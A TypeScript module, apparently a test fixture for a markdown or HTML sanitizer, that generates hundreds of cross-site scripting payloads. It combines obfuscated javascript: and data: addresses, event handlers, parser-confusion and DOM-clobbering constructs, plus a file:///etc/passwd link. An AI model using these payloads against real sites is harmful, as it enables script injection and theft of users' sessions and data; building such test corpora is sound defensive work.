/** A text that tries to run `attacked()` in the page, or to get into it what is not allowed. */
export type Payload = { name: string; text: string }

const SCRIPT = 'attacked()'

/** Each character as something that a parser may undo. */
const each = (text: string, of: (code: number) => string) =>
  [...text].map(character => of(character.codePointAt(0) ?? 0)).join('')
const hex = (code: number) => code.toString(16)

/** Ways to write the address `javascript:attacked()`, or one that comes to the same. */
const ADDRESSES: Readonly<Record<string, string>> = {
  plain: `javascript:${SCRIPT}`,
  'mixed case': `JaVaScRiPt:${SCRIPT}`,
  'a tab within': `java\tscript:${SCRIPT}`,
  'a line feed within': `java\nscript:${SCRIPT}`,
  'a tab as an entity': `java&Tab;script:${SCRIPT}`,
  'a line feed as an entity': `java&NewLine;script:${SCRIPT}`,
  'a control character before': `\u0001javascript:${SCRIPT}`,
  'a control character as an entity': `&#1;javascript:${SCRIPT}`,
  'a space before': ` javascript:${SCRIPT}`,
  'a zero width space within': `java\u200Bscript:${SCRIPT}`,
  'a NUL within': `java\0script:${SCRIPT}`,
  'the colon as an entity': `javascript&colon;${SCRIPT}`,
  'decimal entities': each(`javascript:${SCRIPT}`, code => `&#${code};`),
  'decimal entities without their ends': each(
    `javascript:${SCRIPT}`,
    code => `&#${String(code).padStart(7, '0')}`,
  ),
  'hexadecimal entities': each(`javascript:${SCRIPT}`, code => `&#x${hex(code)};`),
  percent: each(`javascript:${SCRIPT}`, code => `%${hex(code)}`),
  'a percent sign for the colon': `javascript%3A${SCRIPT}`,
  'fullwidth letters': `ｊａｖａｓｃｒｉｐｔ：${SCRIPT}`,
  'a comment that looks like a host': `javascript://example.com/%0A${SCRIPT}`,
  'as if of the web': `https:javascript:${SCRIPT}`,
  'data of HTML': `data:text/html,<script>${SCRIPT}</script>`,
  'data in base64': `data:text/html;base64,${btoa(`<script>${SCRIPT}</script>`)}`,
  'data of SVG': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>`,
  'another script': `vbscript:${SCRIPT}`,
  'a source view': `view-source:javascript:${SCRIPT}`,
  'a file': 'file:///etc/passwd',
  'of no scheme': '//example.com/attack.js',
}

/** What an address can be put into. */
const CARRIERS: Readonly<Record<string, (address: string) => string>> = {
  'a link': address => `[words](${address})`,
  'a link in brackets': address => `[words](<${address}>)`,
  'a reference': address => `[words][there]\n\n[there]: ${address}`,
  'an autolink': address => `<${address}>`,
  'an image': address => `![words](${address})`,
  'an anchor': address => `<a href="${address}">words</a>`,
  'an anchor without quotes': address => `<a href=${address}>words</a>`,
  'an anchor of SVG': address => `<svg><a xlink:href="${address}"><text y="9">words</text></a></svg>`,
  'an anchor of MathML': address => `<math><mtext href="${address}">words</mtext></math>`,
  'an animated anchor': address =>
    `<svg><a><animate attributeName="href" values="${address}"/><text y="9">words</text></a></svg>`,
  'a frame': address => `<iframe src="${address}"></iframe>`,
  'an object': address => `<object data="${address}"></object>`,
  'an embedded thing': address => `<embed src="${address}">`,
  'a form': address => `<form action="${address}"><input type="submit" id="attributes"></form>`,
  'a button': address => `<form><button formaction="${address}">words</button></form>`,
  'a base': address => `<base href="${address}"><a href="x">words</a>`,
  'a refresh': address => `<meta http-equiv="refresh" content="0;url=${address}">`,
  'a style': address => `<style>@import "${address}";</style><p style="background:url(${address})">words</p>`,
}

/** Elements that run what a handler says by themselves, or once somebody moves over them. */
const HANDLERS: readonly (readonly [element: string, attributes: string, handler: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['details', 'open', 'ontoggle'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['iframe', 'src=about:blank', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['marquee', 'width=1', 'onstart'],
  ['a', 'href=https://example.com', 'onpointerenter'],
  ['p', 'tabindex=0 style=animation-name:breathe', 'onanimationstart'],
  ['x-words', 'contenteditable', 'onblur'],
]

/** Ways to write an element with a handler. */
const WRITINGS: Readonly<Record<string, (element: string, attributes: string, handler: string) => string>> = {
  plain: (element, attributes, handler) => `<${element} ${attributes} ${handler}="${SCRIPT}">`,
  'upper case': (element, attributes, handler) =>
    `<${element.toUpperCase()} ${attributes} ${handler.toUpperCase()}='${SCRIPT}'>`,
  'slashes for spaces': (element, attributes, handler) =>
    `<${element}/${attributes.replaceAll(' ', '/')}/${handler}=${SCRIPT}>`,
  'line feeds for spaces': (element, attributes, handler) =>
    `<${element}\n${attributes.replaceAll(' ', '\n')}\n${handler}\n=\n"${SCRIPT}">`,
  'form feeds for spaces': (element, attributes, handler) =>
    `<${element}\f${attributes.replaceAll(' ', '\f')}\f${handler}=${SCRIPT}>`,
  'entities for the script': (element, attributes, handler) =>
    `<${element} ${attributes} ${handler}="${each(SCRIPT, code => `&#${code};`)}">`,
  'without an end': (element, attributes, handler) => `<${element} ${attributes} ${handler}=${SCRIPT} `,
  'after a bracket too many': (element, attributes, handler) =>
    `<<${element} ${attributes} ${handler}=${SCRIPT}>//<`,
  'with a NUL': (element, attributes, handler) => `<${element} ${attributes} \0${handler}=${SCRIPT}>`,
  'within backticks': (element, attributes, handler) => `<${element} ${attributes} ${handler}=\`${SCRIPT}\`>`,
}

const IMAGE = `<img src=x onerror=${SCRIPT}>`

/** Where one parser ends what another goes on with. */
const PLACES: Readonly<Record<string, string>> = {
  'a script': `<script>${SCRIPT}</script>`,
  'a script within a script': `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  'a script of SVG': `<svg><script>${SCRIPT}</script></svg>`,
  'a frame with a document': `<iframe srcdoc="&lt;script&gt;parent.${SCRIPT}&lt;/script&gt;"></iframe>`,
  'a template': `<template>${IMAGE}</template>`,
  'a shadow': `<div><template shadowrootmode="open">${IMAGE}</template></div>`,
  'a comment that ends early': `<!-->${IMAGE}-->`,
  'a comment that ends with a mark': `<!-- --!>${IMAGE} -->`,
  'a declaration': `<!DOCTYPE x ${IMAGE}>`,
  'an instruction': `<?x ${IMAGE}?>`,
  'character data': `<svg><![CDATA[><image xlink:href="]]>${IMAGE}</svg>`,
  'a foreign object': `<svg><foreignObject>${IMAGE}</foreignObject></svg>`,
  'a use': `<svg><use href="data:image/svg+xml,<svg id='x' onload='${SCRIPT}'/>#x"/></svg>`,
  'a set': `<svg><set attributeName="onmouseover" to="${SCRIPT}"/></svg>`,
  'tables within MathML': `<math><mtext><table><mglyph><style><!--</style>${IMAGE}--></style></table></math>`,
  'an annotation': `<math><annotation-xml encoding="text/html">${IMAGE}</annotation-xml></math>`,
  'forms within MathML': `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}</style></mglyph></form>`,
  'a style within SVG': `<svg></p><style><a id="</style>${IMAGE}">`,
  'an attribute that ends its element': `<p align="</p>${IMAGE}">words</p>`,
  'an attribute with a bracket': `<a href="https://example.com/?>${IMAGE}">words</a>`,
  'the title of a link': `[words](https://example.com "\\"><img src=x onerror=${SCRIPT}>")`,
  'the end of an address': `[words](https://example.com/"onmouseover="${SCRIPT})`,
  'the text of a link': `[${IMAGE}](https://example.com)`,
  'the text of an image': `![" onerror="${SCRIPT}](x)`,
  'the text of an image, as an element': `![${IMAGE}](x)`,
  'the name of a language': `\`\`\`"><img/src=x/onerror=${SCRIPT}>\nwords\n\`\`\``,
  'a fence that does not end': `\`\`\`\n${IMAGE}`,
  'code within a line': `\`${IMAGE}\` and \`\`${IMAGE}`,
  'a heading': `# ${IMAGE}`,
  'a list': `- [x] ${IMAGE}\n  1. ${IMAGE}`,
  'a table': `| ${IMAGE} | b |\n| :-: | - |\n| ${IMAGE} | \\|${IMAGE} |`,
  'a quotation': `> ${IMAGE}\n>> ${IMAGE}`,
  'escaped brackets': `\\<img src=x onerror=${SCRIPT}\\> \\\\<img src=x onerror=${SCRIPT}>`,
  'entities that are undone twice': `&amp;lt;img src=x onerror=${SCRIPT}&amp;gt; &lt;img src=x onerror=${SCRIPT}&gt;`,
  'a name of the document': `<a id="cookie" name="body" href="https://example.com">words</a>`,
  'a name of a part': `<p id="screen" class="prod-bar" data-theme="dark">words</p>`,
  'a name of a method': '<img name="querySelector"><img id="createElement"><form name="forms"></form>',
  'a role of the page': '<p role="alert" aria-live="assertive" tabindex="0" slot="x" part="y">words</p>',
  'a dialog': '<dialog open><form method="dialog"><input name="password"></form></dialog>',
  'a popover': `<button popovertarget="x">words</button><p popover id="x" onbeforetoggle="${SCRIPT}">x</p>`,
}

/** Elements whose text is none of markup, to one of two parsers. */
const RAW = [
  'textarea',
  'title',
  'style',
  'xmp',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'plaintext',
  'select',
  'option',
]

/** All payloads: every address in every carrier, every handler in every writing, and every place. */
export const PAYLOADS: readonly Payload[] = [
  ...Object.entries(CARRIERS).flatMap(([carrier, carried]) =>
    Object.entries(ADDRESSES).map(([address, text]) => ({
      name: `${carrier} to an address: ${address}`,
      text: carried(text),
    })),
  ),
  ...HANDLERS.flatMap(([element, attributes, handler]) =>
    Object.entries(WRITINGS).map(([writing, written]) => ({
      name: `${handler} of ${element}, written so: ${writing}`,
      text: written(element, attributes, handler),
    })),
  ),
  ...Object.entries(PLACES).map(([place, text]) => ({ name: `in place: ${place}`, text })),
  ...RAW.flatMap(element => [
    { name: `out of ${element}`, text: `<${element}></${element}>${IMAGE}` },
    { name: `within ${element}`, text: `<${element}>${IMAGE}</${element}>` },
    {
      name: `within ${element}, by an attribute`,
      text: `<${element}><p align="</${element}>${IMAGE}"></${element}>`,
    },
    { name: `${element} within SVG`, text: `<svg><${element}><img align="</${element}>${IMAGE}"></svg>` },
  ]),
]
